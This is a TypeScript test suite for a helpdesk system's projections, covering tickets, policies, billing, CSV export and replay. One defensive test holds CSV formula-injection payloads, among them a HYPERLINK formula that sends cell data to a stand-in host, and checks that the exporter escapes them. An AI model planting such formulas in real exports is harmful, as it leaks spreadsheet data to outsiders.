import { fold, ticketDecider } from '@helpdesk/domain';
import {
  allProjections,
  authorizationsAudit,
  billedMinutes,
  billedMinutesCsv,
  caseLinks,
  customerPolicies,
  getCustomer,
  getPolicy,
  getTicket,
  listTickets,
  ticketSla,
  type BilledMinutesResult,
  type TicketDoc,
} from '@helpdesk/projections';
import { SqliteReadStore } from '@helpdesk/read-store';
import { CSV_NASTY, buildScenario, policyStateFromLog } from './scenario';
import { at, dump, impera, project } from './support';

describe('read models fed with a realistic history', () => {
  const log = buildScenario();
  let store: SqliteReadStore;

  beforeAll(async () => {
    store = SqliteReadStore.open(':memory:');
    await project(store, allProjections(), log.events, 7);
  });
  afterAll(() => store.close());

  it('tickets: the state is exactly the domain fold of the stream, with flat view fields', async () => {
    for (const id of ['t-1', 't-2', 't-3', 't-4']) {
      const doc = (await getTicket(store, id)) as TicketDoc;
      const stream = log.stream(`ticket-${id}`);
      expect(doc.state).toEqual(fold(ticketDecider.evolve, ticketDecider.initialState(), stream as never[]));
      expect(doc.version).toBe(stream.length - 1);
      const last = log.events.filter((e) => e.streamId === `ticket-${id}`).pop()!;
      expect(doc.lastPosition).toBe(Number(last.position));
    }
    const t1 = (await getTicket(store, 't-1')) as TicketDoc;
    expect(t1).toMatchObject({
      ticketId: 't-1',
      customerId: 'acme',
      status: 'open',
      department: 'support',
      assigneeId: 'ana',
      priority: 'high',
      urgency: 3,
      escalationLevel: 1,
      respondedAt: null,
      paused: false,
      subject: 'Asunto t-1',
      openedAt: at('2026-03-02T10:00'),
      updatedAt: at('2026-03-02T15:00'),
    });
    // high = 24 h of business days from Monday 10:00 -> Tuesday 10:00
    expect(t1.responseDueAt).toBe(at('2026-03-03T10:00'));
    expect(t1.queueKey).toBe(`0|${at('2026-03-03T10:00')}|6`);
    expect(t1.state.billing.workLogs['e-1']).toMatchObject({ minutes: 60, policyId: 'p-1' });

    const t3 = (await getTicket(store, 't-3')) as TicketDoc;
    expect(t3).toMatchObject({ status: 'awaiting-customer', paused: true, priority: 'low', urgency: 1 });
    expect(t3.queueKey!.startsWith('2|')).toBe(true);

    const t4 = (await getTicket(store, 't-4')) as TicketDoc;
    expect(t4).toMatchObject({ status: 'closed', respondedAt: at('2026-03-02T13:00'), queueKey: null, closedAt: at('2026-03-02T14:00') });
    expect(ticketSla(t4, at('2026-03-09T10:00'), impera)).toMatchObject({ met: true, breached: false, elapsedBusinessMinutes: 60 });
  });

  it('ticket lists filter and page newest first', async () => {
    const acme = await listTickets(store, { customerId: 'acme', limit: 2 });
    expect(acme.items.map((t) => t.ticketId)).toEqual(['t-4', 't-3']);
    expect(acme.items[0]).not.toHaveProperty('state');
    const rest = await listTickets(store, { customerId: 'acme', limit: 2, cursor: acme.nextCursor! });
    expect(rest.items.map((t) => t.ticketId)).toEqual(['t-1']);
    expect(rest.nextCursor).toBeNull();
    expect((await listTickets(store, { status: 'closed' })).items.map((t) => t.ticketId)).toEqual(['t-4']);
    await expect(listTickets(store, { limit: 0 })).rejects.toMatchObject({ code: 'invalid-request', path: 'limit' });
    await expect(listTickets(store, { cursor: 'garbage!' })).rejects.toMatchObject({ code: 'invalid-cursor', path: 'cursor' });
  });

  it('policies: balance, deductions and the status from the clock', async () => {
    const p = await getPolicy(store, 'p-1', at('2026-03-05T10:00'));
    const domain = policyStateFromLog(log, 'p-1');
    expect(p).toMatchObject({
      policyId: 'p-1',
      customerId: 'acme',
      plan: 'basic',
      status: 'active',
      minutesPurchased: 300,
      minutesUsed: domain.minutesUsed,
      minutesRemaining: 240,
      validFrom: '2026-01-05',
      validUntil: '2027-01-04',
    });
    expect(p!.deductions).toEqual([
      expect.objectContaining({ entryId: 'e-1', ticketId: 't-1', authorizationId: 'q-1', minutes: 60, workedOn: '2026-03-02', engineerId: 'ana', kind: 'remote', minutesRemaining: 240 }),
    ]);
    expect((await getPolicy(store, 'p-1', '2027-01-06T12:00:00Z'))!.status).toBe('expired');
    expect((await getPolicy(store, 'p-1', '2025-12-01T12:00:00Z'))!.status).toBe('not-started');
    expect((await customerPolicies(store, 'acme', at('2026-03-05T10:00'))).map((x) => x.policyId)).toEqual(['p-1']);
    expect(await customerPolicies(store, 'globex', at('2026-03-05T10:00'))).toEqual([]);
    expect(await getPolicy(store, 'nope', at('2026-03-05T10:00'))).toBeNull();
  });

  it('customers', async () => {
    expect(await getCustomer(store, 'acme', at('2026-03-05T10:00'))).toMatchObject({ name: 'Acme, S.A. de C.V.', suspended: false, suspension: null });
  });

  it('authorizations audit: every acceptance and decline with the quote terms, who, when, ticket', async () => {
    const all = await authorizationsAudit(store);
    expect(all.map((a) => [a.ticketId, a.quoteId, a.decision])).toEqual([
      ['t-1', 'q-1', 'accept'],
      ['t-2', 'q-2', 'accept'],
      ['t-3', 'q-3', 'decline'],
    ]);
    expect(all[1]).toMatchObject({
      customerId: 'globex',
      authorizationId: 'q-2',
      purchaseOrder: 'OC-7',
      by: 'gus',
      at: at('2026-03-03T09:00'),
      terms: { kind: 'per-event', minutes: 60, hourlyRateMinor: 80_000, amountMinor: 80_000, currency: 'MXN', paymentTerms: '30 días' },
      quote: { issuedBy: 'ana', issuedAt: at('2026-03-02T11:30') },
    });
    expect(all[0].terms).toMatchObject({ kind: 'policy-estimate', policyId: 'p-1', minutes: 120 });
    expect(all[2]).toMatchObject({ authorizationId: null, comment: 'Muy caro', by: 'carla' });
    expect((await authorizationsAudit(store, { customerId: 'acme' })).map((a) => a.quoteId)).toEqual(['q-1', 'q-3']);
    // dates are whole UTC days, `to` inclusive; instants are [from, to)
    expect((await authorizationsAudit(store, { from: '2026-03-03', to: '2026-03-03' })).map((a) => a.quoteId)).toEqual(['q-2']);
    expect((await authorizationsAudit(store, { from: at('2026-03-02T12:00'), to: at('2026-03-03T09:00') })).map((a) => a.quoteId)).toEqual(['q-1']);
  });

  it('billed minutes: one row per deduction or charge, traced to its authorization, with totals', async () => {
    const result = await billedMinutes(store);
    expect(result.rows).toEqual([
      expect.objectContaining({ entryId: 'e-1', customerId: 'acme', ticketId: 't-1', policyId: 'p-1', authorizationId: 'q-1', quoteId: 'q-1', minutes: 60, chargeMinor: null, currency: null }),
      expect.objectContaining({ entryId: 'e-2', customerId: 'globex', ticketId: 't-2', policyId: null, authorizationId: 'q-2', minutes: 30, chargeMinor: 40_000, currency: 'MXN', engineerId: 'beto' }),
    ]);
    expect(result.totals).toEqual({
      minutes: 90,
      chargeMinor: { MXN: 40_000 },
      byCustomer: [
        { customerId: 'acme', minutes: 60, policyMinutes: 60, perEventMinutes: 0, chargeMinor: {} },
        { customerId: 'globex', minutes: 30, policyMinutes: 0, perEventMinutes: 30, chargeMinor: { MXN: 40_000 } },
      ],
      byPolicy: [{ policyId: 'p-1', customerId: 'acme', minutes: 60 }],
    });
    expect((await billedMinutes(store, { from: '2026-03-03' })).rows.map((r) => r.entryId)).toEqual(['e-2']);
    expect((await billedMinutes(store, { to: '2026-03-02' })).rows.map((r) => r.entryId)).toEqual(['e-1']);
    expect((await billedMinutes(store, { customerId: 'globex' })).totals.minutes).toBe(30);
    await expect(billedMinutes(store, { from: '2026-02-30' })).rejects.toMatchObject({ path: 'from' });
  });

  it('billed minutes as RFC 4180 CSV', async () => {
    const csv = billedMinutesCsv(await billedMinutes(store));
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('workedOn,loggedAt,customerId,ticketId,entryId,policyId,authorizationId,quoteId,engineerId,kind,minutes,chargeMinor,currency,description');
    expect(lines[1]).toBe(`2026-03-02,${at('2026-03-02T15:00')},acme,t-1,e-1,p-1,q-1,q-1,ana,remote,60,,,Revisión del servidor`);
    // the nasty description: comma, quotes and a CRLF inside one quoted field
    expect(csv).toContain(`,40000,MXN,"Reinstalación de ""Softlik"", base de datos\r\nsegunda línea"\r\n`);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv)[2][13]).toBe(CSV_NASTY);
    expect(parseCsv(csv)).toHaveLength(3);
  });

  it('CSV text a spreadsheet would run as a formula opens as text; numbers stay numbers', () => {
    const row = (description: string, chargeMinor: number | null = null) =>
      ({ workedOn: '2026-03-02', at: '2026-03-02T15:00:00.000Z', customerId: 'acme', ticketId: 't-1', entryId: 'e-1', policyId: null, authorizationId: 'a-1', quoteId: 'q-1', engineerId: 'ana', kind: 'remote', minutes: 60, chargeMinor, currency: null, description }) as unknown as BilledMinutesResult['rows'][number];
    const csv = billedMinutesCsv({ rows: [row('=HYPERLINK("http://x.example/?"&A1,"ver")'), row('+1+2'), row('-2+3', -500), row('@SUM(A1)'), row('\tpaso'), row('Revisión = correcta')] });
    const fields = parseCsv(csv).slice(1).map((r) => r[13]);
    expect(fields).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"ver")`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tpaso", 'Revisión = correcta']);
    expect(parseCsv(csv)[3][11]).toBe('-500');
  });

  it('case links: the policy deductions made for a ticket', async () => {
    const links = await caseLinks(store, 't-1');
    const deduction = log.events.find((e) => e.type === 'MinutesDeducted')!;
    expect(links).toEqual([
      expect.objectContaining({ ticketId: 't-1', streamId: 'policy-p-1', version: 1, position: Number(deduction.position), type: 'MinutesDeducted', eventId: deduction.id }),
    ]);
    expect(await caseLinks(store, 't-2')).toEqual([]);
  });

  it('replaying the same events (whole history, then overlapping pages) changes nothing', async () => {
    const before = await dump(store, allProjections());
    // same events again through fresh appliers, ignoring the checkpoints
    for (const projection of allProjections()) {
      const { BatchApplier } = await import('@helpdesk/projections');
      const applier = new BatchApplier(store, projection);
      for (let i = 0; i < log.events.length; i += 5) {
        await applier.applyPage(log.events.slice(i, i + 9));
        await applier.flush(null, log.events[log.events.length - 1].position);
      }
    }
    expect(await dump(store, allProjections())).toEqual(before);
    // and a fresh rebuild in one page equals the paged one
    const fresh = SqliteReadStore.open(':memory:');
    await project(fresh, allProjections(), log.events, 10_000);
    expect(await dump(fresh, allProjections())).toEqual(before);
    await fresh.close();
  });
});

/** minimal RFC 4180 parser for the test */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field), rows.push(row), (row = []), (field = ''), i++;
    } else field += c;
  }
  return rows;
}

describe('record keys unsafe for MongoDB field names', () => {
  it('quote ids with dots, dollars, percent and NUL survive the round trip', async () => {
    const { EventLog, agent: asAgent, customer: asCustomer } = await import('./support');
    const { encodeKeys, decodeKeys } = await import('@helpdesk/projections');
    const nasty = { 'a.b': 1, $c: 2, 'd%2E': 3, 'e\u0000f': 4, plain: 5 };
    const encoded = encodeKeys(nasty);
    expect(Object.keys(encoded).some((k) => /[.$\u0000]/.test(k))).toBe(false);
    expect(decodeKeys(encoded)).toEqual(nasty);
    const plain = { x: 1 };
    expect(encodeKeys(plain)).toBe(plain);

    const log = new EventLog(impera);
    const quoteId = 'Q.2026$1%00';
    log.ticket('n-1', { type: 'OpenTicket', customerId: 'acme', department: 'support', subject: 'x', description: 'y', facts: { customer: { exists: true } } } as never, asAgent(at('2026-03-02T10:00')));
    log.ticket('n-1', { type: 'IssueQuote', quoteId, kind: 'per-event', minutes: 60, hourlyRateMinor: 100, currency: 'MXN', description: 'z', facts: {} }, asAgent(at('2026-03-02T10:10')));
    log.ticket('n-1', { type: 'AuthorizeService', quoteId, decision: 'accept' }, asCustomer(at('2026-03-02T10:20')));
    const s = SqliteReadStore.open(':memory:');
    await project(s, allProjections(), log.events);
    const raw = await s.get<TicketDoc>('tickets', 'n-1');
    expect(Object.keys(raw!.state.billing.quotes)).toEqual(['Q%2E2026%241%2500']);
    const doc = await getTicket(s, 'n-1');
    expect(doc!.state).toEqual(fold(ticketDecider.evolve, ticketDecider.initialState(), log.stream('ticket-n-1') as never[]));
    expect(Object.keys(doc!.state.billing.quotes)).toEqual([quoteId]);
    await s.close();
  });
});
